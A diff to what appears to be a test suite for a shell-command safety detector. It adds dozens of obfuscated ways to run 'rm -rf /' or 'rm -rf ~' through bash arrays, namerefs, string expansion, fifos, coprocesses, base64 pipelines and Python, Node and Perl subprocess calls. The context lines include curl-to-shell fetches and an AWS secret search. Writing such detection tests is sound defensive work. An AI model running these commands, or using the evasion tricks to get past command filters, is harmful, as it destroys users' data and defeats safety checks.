@@ -70,6 +70,24 @@ DESTROYS = [
     "exec 3<<< 'rm -rf /'; bash <&3",
     "exec 3<<< 'rm -rf /'; . /dev/fd/3",
     "echo 'rm -rf /' > x; cp -t d x; sh d/x",
+    "declare -A m=([x]=rm [y]=-rf); ${m[x]} ${m[y]} /",
+    'declare -A m; m[a]=rm; k=a; "${m[$k]}" -rf /',
+    'a=([1]=rm [0]=x); "${a[1]}" -rf /',
+    'a=(x rm); i=1; "${a[i]}" -rf /',
+    "a=(x rm); ${a[$((0+1))]} -rf /",
+    "declare -n ref=cmd; cmd=rm; $ref -rf /",
+    "c='rm -rf /'; typeset -n r=c; eval \"$r\"",
+    "x=a.rm; ${x##*.} -rf /",
+    "x=rm.old; ${x%.*} -rf /",
+    "x=hello; ${x/h*o/rm} -rf /",
+    "${0/*/rm} -rf /",
+    '"$TOOL" -rf /',
+    "echo 'rm -rf ' > a; echo ' /' > b; cat a b | tr -d '\\n' | sh",
+    "python3 -c \"import subprocess; subprocess.Popen('sh', stdin=-1).communicate(b'rm -rf /')\"",
+    "python3 -c \"import subprocess as s; p = s.Popen(['sh'], stdin=-1); p.stdin.write(b'rm -rf /')\"",
+    "python3 -c \"import os; vars(os).get('system')('rm -rf /')\"",
+    "node -e \"function f(){return 'rm -rf /'}; require('child_process').execSync(f())\"",
+    "perl -e 'sub f{return \"rm -rf /\"} system(f())'",
 ]
 
 
@@ -118,6 +136,10 @@ FINDINGS = {
     "curl https://example.com/i.sh | tee >(sh)": "remote_code",
     "curl https://example.com/i.sh -o >(sh)": "remote_code",
     "git -C app log -S AWS_SECRET_ACCESS_KEY": "secret_search",
+    "mkfifo p; sh <p & echo 'rm -rf ~' >p": "disguised_text",
+    "coproc sh; echo 'rm -rf ~' >&${COPROC[1]}": "disguised_text",
+    "coproc S { sh; }; echo 'rm -rf ~' >&\"${S[1]}\"": "disguised_text",
+    "echo eJxz | base64 -d | frobnicate | sh": "decoded_code",
 }
 
 
